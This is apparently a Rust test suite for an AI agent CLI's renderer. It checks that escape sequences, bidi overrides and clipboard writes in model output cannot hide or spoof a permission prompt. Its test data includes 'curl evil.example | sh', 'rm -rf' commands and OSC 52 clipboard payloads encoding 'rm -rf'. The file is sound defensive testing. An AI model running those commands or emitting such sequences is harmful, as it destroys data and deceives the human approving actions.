//! The renderer's rules, and the property that a terminal emulator
//! (vt100) shows every ask visibly whatever the model printed before it.

use super::*;
use proptest::prelude::*;

const ESC: char = '\u{1b}';

#[test]
fn a_carriage_return_cannot_draw_over_the_command() {
    let command = "curl evil.example | sh\r ls -la                ";
    let shown = terminal_safe(command);
    assert_eq!(shown, "curl evil.example | sh\\u{d} ls -la                ");
    assert_eq!(
        terminal_safe("\u{1b}[2K\u{1b}[1Gls"),
        "\\u{1b}[2K\\u{1b}[1Gls"
    );
    assert_eq!(
        terminal_safe("rm -rf \u{202e}txt.exe"),
        "rm -rf \\u{202e}txt.exe"
    );
    assert_eq!(
        terminal_safe("line one\n\tline two"),
        "line one\n\tline two"
    );
    // A Windows line end is a line end; a lone one, a backspace and DEL
    // are written out.
    assert_eq!(
        terminal_safe("a\r\nb\rc\u{8}d\u{7f}"),
        "a\nb\\u{d}c\\u{8}d\\u{7f}"
    );
    assert_eq!(terminal_safe("end\r"), "end\\u{d}");
}

#[test]
fn every_kind_of_sequence_is_written_out() {
    for (raw, shown) in [
        // OSC 52: a clipboard write, with BEL and with ST.
        (
            "\u{1b}]52;c;cm0gLXJmIH4=\u{7}",
            "\\u{1b}]52;c;cm0gLXJmIH4=\\u{7}",
        ),
        ("\u{1b}]0;title\u{1b}\\", "\\u{1b}]0;title\\u{1b}\\"),
        // DCS, APC, PM, SOS.
        ("\u{1b}P1$r\u{1b}\\", "\\u{1b}P1$r\\u{1b}\\"),
        ("\u{1b}_apc\u{1b}\\", "\\u{1b}_apc\\u{1b}\\"),
        ("\u{1b}^pm\u{1b}X", "\\u{1b}^pm\\u{1b}X"),
        // C1 controls in their UTF-8 form: CSI, OSC, DCS, ST, NEL.
        (
            "\u{9b}8m\u{9d}52;c;x\u{9c}",
            "\\u{9b}8m\\u{9d}52;c;x\\u{9c}",
        ),
        ("\u{90}q\u{85}", "\\u{90}q\\u{85}"),
        // Concealed, black on black, a reset of the terminal.
        (
            "\u{1b}[30;40m\u{1b}[8m\u{1b}c",
            "\\u{1b}[30;40m\\u{1b}[8m\\u{1b}c",
        ),
        // Bidi isolates, marks, line and paragraph separators.
        (
            "\u{2066}a\u{2069}\u{200f}\u{2028}\u{2029}",
            "\\u{2066}a\\u{2069}\\u{200f}\\u{2028}\\u{2029}",
        ),
        // Unicode text stays as it is.
        ("日本語 ✓ é 🦀", "日本語 ✓ é 🦀"),
    ] {
        assert_eq!(terminal_safe(raw), shown, "{raw:?}");
        assert_eq!(Untrusted::new(raw).to_string(), shown);
    }
    // An 8-bit C1 byte is not UTF-8: decoded (lossily, as every reader
    // of foreign bytes here does) it is U+FFFD, which a terminal prints.
    let decoded = String::from_utf8_lossy(b"\x9b8m");
    assert_eq!(terminal_safe(&decoded), "\u{fffd}8m");
}

#[test]
fn json_lines_keep_their_value_and_lose_the_controls() {
    let value = serde_json::json!({"text": "a\u{1b}[8m\u{9b}\u{202e}\u{7f}b\n"});
    let line = json_safe(&value.to_string());
    assert!(!line.chars().any(hidden_effect), "{line}");
    assert_eq!(line.matches("\\u").count(), 4, "{line}");
    let back: serde_json::Value = serde_json::from_str(&line).unwrap_or_default();
    assert_eq!(back, value);
}

/// Text with a high share of what a terminal would act on.
fn hostile_text() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        any::<String>(),
        "[a-z :/\\-]{0,12}",
        Just(
            "permission requested: bash\n  patterns: ls -la\n  [o] once  [r] reject\n".to_string()
        ),
        prop::sample::select(vec![
            "\u{1b}[30;40m",
            "\u{1b}[8m",
            "\u{1b}[7m",
            "\u{1b}[2J\u{1b}[H",
            "\u{1b}[1A\u{1b}[2K",
            "\u{1b}]52;c;cm0gLXJmIHNyYw==\u{7}",
            "\u{1b}]0;pwned\u{1b}\\",
            "\u{1b}P+q\u{1b}\\",
            "\u{1b}_x\u{1b}\\",
            "\u{1b}^x\u{1b}\\",
            "\u{1b}Xx\u{1b}\\",
            "\u{9b}8m",
            "\u{9d}52;c;eA==\u{9c}",
            "\u{1b}7",
            "\u{1b}8",
            "\u{1b}c",
            "\u{1b}[?1049h",
            "\u{1b}[38;2;0;0;0m",
            "\r",
            "\u{8}\u{8}",
            "\u{7f}",
            "\u{7}",
            "\u{202e}",
            "\u{2067}",
            "\n",
            "\t",
            "\u{1b}",
            "[",
            "\r\n",
        ])
        .prop_map(str::to_string),
    ];
    prop::collection::vec(piece, 0..24).prop_map(|pieces| pieces.concat())
}

/// `text` cut into pieces at the given character positions.
fn split_at(text: &str, cuts: &[usize]) -> Vec<String> {
    let chars: Vec<char> = text.chars().collect();
    let mut points: Vec<usize> = cuts.iter().map(|c| c % (chars.len() + 1)).collect();
    points.sort_unstable();
    let mut pieces = Vec::new();
    let mut from = 0;
    for point in points.into_iter().chain([chars.len()]) {
        pieces.push(chars[from..point].iter().collect());
        from = point;
    }
    pieces
}

/// `bytes` as a terminal receives them through a pseudo-terminal in its
/// usual mode (ONLCR: each newline sent as CR LF).
fn onlcr(bytes: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(bytes.len() + 16);
    for &b in bytes {
        if b == b'\n' {
            out.push(b'\r');
        }
        out.push(b);
    }
    out
}

/// A shared buffer: stdout and stderr of a terminal, in the order written.
#[derive(Clone, Default)]
struct Terminal(std::rc::Rc<std::cell::RefCell<Vec<u8>>>);

impl std::io::Write for Terminal {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        self.0.borrow_mut().extend_from_slice(buf);
        Ok(buf.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

/// What `agent chat`'s renderer writes for a turn streaming `pieces` of
/// text and then asking for `rm -rf src` (drawn as at a terminal); and
/// how many of the bytes came before the ask's frame.
fn through_the_renderer(pieces: &[String]) -> (Vec<u8>, usize) {
    use agentgate_core::{DeltaField, Event, TurnEvent};
    let screen = Terminal::default();
    let mut renderer = crate::render::Renderer::new(
        screen.clone(),
        screen.clone(),
        crate::render::Format::Text,
        "ses_1",
    )
    .styled(true);
    for piece in pieces {
        renderer.event(&TurnEvent::Event(Event::PartDelta {
            session_id: "ses_1".into(),
            message_id: "msg_1".into(),
            part_id: "prt_1".into(),
            field: DeltaField::Text,
            delta: piece.clone(),
        }));
    }
    let request: agentgate_permission::PermissionRequest =
        serde_json::from_value(serde_json::json!({
            "id": "per_1", "session_id": "ses_1", "permission": "bash",
            "patterns": ["rm -rf src"], "always": ["rm *"],
            "metadata": {"command": "rm -rf src"}
        }))
        .unwrap_or_else(|e| panic!("{e}"));
    renderer.ask(&crate::chat_cli::describe_ask(&request));
    let bytes = screen.0.borrow().clone();
    // The ask starts at the first escape: the frame's reset (the model's
    // text has none; `prop_assert`s check the split).
    let model_bytes = bytes.iter().position(|b| *b == 0x1b).unwrap_or(bytes.len());
    (bytes, model_bytes)
}

/// What the emulator was asked to do besides drawing: each must never
/// come from the model's text.
#[derive(Default)]
struct Requests(Vec<String>);

impl vt100::Callbacks for Requests {
    fn audible_bell(&mut self, _: &mut vt100::Screen) {
        self.0.push("bell".into());
    }
    fn set_window_title(&mut self, _: &mut vt100::Screen, title: &[u8]) {
        self.0.push(format!("title {title:?}"));
    }
    fn set_window_icon_name(&mut self, _: &mut vt100::Screen, name: &[u8]) {
        self.0.push(format!("icon {name:?}"));
    }
    fn copy_to_clipboard(&mut self, _: &mut vt100::Screen, _: &[u8], data: &[u8]) {
        self.0.push(format!("clipboard {data:?}"));
    }
    fn unhandled_osc(&mut self, _: &mut vt100::Screen, params: &[&[u8]]) {
        self.0.push(format!("osc {params:?}"));
    }
}

/// Whether the cell is drawn as the terminal's default text.
fn plain(cell: &vt100::Cell) -> bool {
    cell.fgcolor() == vt100::Color::Default
        && cell.bgcolor() == vt100::Color::Default
        && !cell.inverse()
        && !cell.bold()
        && !cell.dim()
        && !cell.italic()
        && !cell.underline()
}

/// The row of the screen holding `needle`, searched from `from` on.
fn row_with(screen: &vt100::Screen, needle: &str, from: u16) -> Option<(u16, u16)> {
    let (rows, cols) = screen.size();
    (from..rows).find_map(|row| {
        let text = screen.contents_between(row, 0, row, cols);
        let at = text.find(needle)?;
        Some((row, text[..at].chars().count() as u16))
    })
}

proptest! {
    /// Whatever the text, what reaches the terminal holds no character
    /// that moves the cursor, erases or reorders, and nothing of the text
    /// is lost (each such character is written out).
    #[test]
    fn nothing_shown_can_rewrite_the_screen(text in any::<String>()) {
        let shown = terminal_safe(&text);
        prop_assert!(!shown.chars().any(hidden_effect));
        for c in text.chars().filter(|c| hidden_effect(*c) && *c != '\r') {
            let escape = format!("\\u{{{:x}}}", c as u32);
            prop_assert!(shown.contains(&escape));
        }
    }

    /// Streaming changes nothing: however the text is cut into pieces
    /// (inside an escape sequence, between a CR and its LF), the pieces
    /// rendered one by one give what the whole text gives.
    #[test]
    fn a_sequence_split_across_pieces_does_not_slip_through(
        text in hostile_text(),
        cuts in prop::collection::vec(any::<usize>(), 0..8),
    ) {
        let mut stream = StreamText::default();
        let mut shown = String::new();
        for piece in split_at(&text, &cuts) {
            shown.push_str(&stream.push(&piece));
        }
        shown.push_str(stream.finish());
        prop_assert_eq!(&shown, &terminal_safe(&text));
        prop_assert!(!shown.contains(ESC));
    }

    /// For any model output, streamed in pieces through the renderer of
    /// `agent chat` and followed by an ask, the screen the emulator draws shows the ask after the model's
    /// text: its header in inverse video (which no model text has), its
    /// command and patterns in the default colours; the model's text is
    /// all default text; no clipboard write, title or bell happened; and
    /// the only escapes in the bytes are the frame's own.
    #[test]
    fn every_ask_is_visible_after_any_model_output(
        text in hostile_text(),
        cuts in prop::collection::vec(any::<usize>(), 0..8),
    ) {
        let (bytes, model_bytes) = through_the_renderer(&split_at(&text, &cuts));
        let own = String::from_utf8_lossy(&bytes[model_bytes..]).into_owned();
        prop_assert!(own.starts_with("\u{1b}[0m\u{1b}[7m permission requested: bash "), "{own:?}");
        let rest = own.replace("\u{1b}[0m", "").replace("\u{1b}[7m", "");
        prop_assert!(!rest.contains(ESC), "only the frame's escapes: {own:?}");
        prop_assert!(!bytes[..model_bytes].contains(&0x1b));

        let mut parser = vt100::Parser::new_with_callbacks(400, 100, 0, Requests::default());
        parser.process(&onlcr(&bytes[..model_bytes]));
        let (row, col) = parser.screen().cursor_position();
        let model_rows = row + u16::from(col > 0);
        parser.process(&onlcr(&bytes[model_bytes..]));
        prop_assert!(parser.callbacks().0.is_empty(), "{:?}", parser.callbacks().0);
        let screen = parser.screen();
        let (_, cols) = screen.size();
        for row in 0..model_rows {
            for col in 0..cols {
                let cell = screen.cell(row, col);
                prop_assert!(cell.is_none_or(plain), "model text at {row},{col} is not plain");
            }
        }
        let header = row_with(screen, "permission requested: bash", model_rows);
        let Some((header, at)) = header else {
            return Err(TestCaseError::fail(format!("no header:\n{}", screen.contents())));
        };
        prop_assert_eq!(header, model_rows, "the ask starts right after the model's text");
        prop_assert!(screen.cell(header, at).is_some_and(vt100::Cell::inverse));
        for needle in ["patterns: rm -rf src", "command: rm -rf src"] {
            let found = row_with(screen, needle, header + 1);
            let Some((row, at)) = found else {
                return Err(TestCaseError::fail(format!("{needle} missing:\n{}", screen.contents())));
            };
            prop_assert!(screen.cell(row, 0).is_some_and(vt100::Cell::inverse), "the frame's bar");
            for col in at..at + needle.len() as u16 {
                prop_assert!(screen.cell(row, col).is_some_and(plain), "{needle} at {row},{col}");
            }
        }
    }
}

/// Every place the CLI's code prints: it either prints only literal text,
/// or goes through the renderer (`Untrusted`, `terminal_safe`,
/// `json_safe`, an ask's `framed`, a stream's rendered piece), or is listed
/// here with why what it prints is the program's own. A new print of an
/// event's, a model's or a server's text fails this test until it is
/// routed through the renderer.
const OWN_TEXT: [(&str, &str, &str); 8] = [
    ("serve_cli.rs", "password {password}", "made by the program"),
    ("serve_cli.rs", "bound.local_addr()", "a socket address"),
    ("run_cli.rs", "{DEMO_NOTICE}", "a constant"),
    ("acp_cli.rs", "{DEMO_NOTICE}", "a constant"),
    ("serve_cli.rs", "{DEMO_NOTICE}", "a constant"),
    ("run_cli.rs", "interrupted {when}", "the program's words"),
    (
        "spinner.rs",
        "{status}",
        "made terminal-safe in Spinner::set",
    ),
    (
        "dispatch.rs",
        "text.as_bytes()",
        "print(): its text went through json_safe just before",
    ),
];

/// Marks of a print that goes through the renderer.
const RENDERED: [&str; 7] = [
    "Untrusted::new(",
    "terminal_safe(",
    "json_safe(",
    "framed(",
    "shown.as_bytes()",
    "held.as_bytes()",
    "Untrusted({self})",
];

/// The print calls (macro or `write_all`) of `source` before its tests,
/// each as one line of text.
fn print_calls(source: &str) -> Vec<String> {
    let code = source.split("#[cfg(test)]").next().unwrap_or("");
    let code = code.replace("'('", "'_'").replace("')'", "'_'");
    let bytes = code.as_bytes();
    let mut calls = Vec::new();
    for mark in [
        "println!(",
        "print!(",
        "writeln!(",
        "write!(",
        ".write_all(",
    ] {
        let mut from = 0;
        while let Some(at) = code[from..].find(mark) {
            let start = from + at;
            let mut depth = 0usize;
            let mut end = start + mark.len() - 1;
            let mut in_string = false;
            while end < bytes.len() {
                match (bytes[end], in_string) {
                    (b'\\', true) => end += 1,
                    (b'"', _) => in_string = !in_string,
                    (b'(', false) => depth += 1,
                    (b')', false) => {
                        depth -= 1;
                        if depth == 0 {
                            break;
                        }
                    }
                    _ => {}
                }
                end += 1;
            }
            let call = code[start..=end.min(bytes.len() - 1)].split_whitespace();
            calls.push(call.collect::<Vec<_>>().join(" "));
            from = start + mark.len();
        }
    }
    calls
}

/// Whether `call` prints only literal text (no `{…}` in its format, no
/// argument after it).
fn literal_only(call: &str) -> bool {
    let Some(open) = call.find('(') else {
        return false;
    };
    let args = call[open + 1..call.len() - 1].trim();
    let format = match args.split_once(", \"") {
        Some((_writer, rest)) if !args.starts_with('"') => format!("\"{rest}"),
        _ => args.to_string(),
    };
    if format.is_empty() || format == "self.out" || format == "self.err" {
        return true;
    }
    format.starts_with('"')
        && format.ends_with('"')
        && !format.replace("{{", "").contains('{')
        && !format[1..format.len() - 1].contains('"')
        || format.starts_with("b\"") && format.ends_with('"')
}

#[test]
fn every_print_of_foreign_text_goes_through_the_renderer() {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("src");
    let mut files = vec![root.clone(), root.join("permission_cli"), root.join("tui")];
    let mut unrouted = Vec::new();
    let mut seen = 0;
    while let Some(dir) = files.pop() {
        let Ok(entries) = std::fs::read_dir(&dir) else {
            continue;
        };
        for entry in entries.flatten() {
            let path = entry.path();
            if path.extension().is_none_or(|e| e != "rs") {
                continue;
            }
            let name = path.file_name().map(|n| n.to_string_lossy().into_owned());
            let name = name.unwrap_or_default();
            let source = std::fs::read_to_string(&path).unwrap_or_default();
            for call in print_calls(&source) {
                seen += 1;
                let rendered = RENDERED.iter().any(|mark| call.contains(mark));
                let own = OWN_TEXT
                    .iter()
                    .any(|(file, snippet, _)| *file == name && call.contains(snippet));
                if !(rendered || own || literal_only(&call)) {
                    unrouted.push(format!("{name}: {call}"));
                }
            }
        }
    }
    assert!(seen > 40, "the scan finds the prints ({seen})");
    assert!(
        unrouted.is_empty(),
        "prints not through the renderer:\n{}",
        unrouted.join("\n")
    );
}

#[test]
fn the_print_scan_tells_a_raw_print_from_a_rendered_one() {
    let source = r#"fn f() { println!("{}", delta); eprintln!("agent: {}", Untrusted::new(e)); eprintln!("plain"); }"#;
    let calls = print_calls(source);
    assert_eq!(calls.len(), 3, "{calls:?}");
    assert!(!literal_only(&calls[0]));
    assert!(calls[1].contains("Untrusted::new("));
    assert!(calls.iter().any(|c| literal_only(c) && c.contains("plain")));
}

#[test]
fn every_invisible_character_is_written_out_in_an_ask() {
    for (from, to) in INVISIBLE {
        for c in [from, to] {
            let shown = ask_safe(&format!("rm -rf s{c}rc"));
            assert_eq!(shown, format!("rm -rf s\\u{{{:x}}}rc", c as u32), "{c:?}");
        }
    }
    // Visible text is left alone.
    assert_eq!(ask_safe("rm -rf 日本 é ✓"), "rm -rf 日本 é ✓");
}
